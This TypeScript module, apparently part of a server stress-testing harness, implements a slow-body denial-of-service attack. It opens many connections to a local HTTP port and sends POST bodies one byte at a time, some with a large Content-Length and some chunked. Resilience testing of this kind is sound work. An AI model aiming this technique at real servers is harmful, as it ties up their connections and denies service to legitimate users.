import { drip } from "../attackers/drip.ts";
import { dial } from "../attackers/sockets.ts";
import type { Attack } from "../attackers/target.ts";

const CHUNK = Buffer.from("1\r\nx\r\n");

/** Bodies that come one byte at a time: one half with a content-length, the other in chunks. */
export const slowBodies: Attack = {
	unit: "bytes",
	processes: 1,
	run(target) {
		const { port } = target;
		const head = `POST / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n`;
		return drip(
			target,
			async (i) => {
				const socket = await dial(port);
				socket.write(`${head}${i % 2 === 0 ? "Content-Length: 1000000" : "Transfer-Encoding: chunked"}\r\n\r\n`);
				return socket;
			},
			() => CHUNK,
		);
	},
};
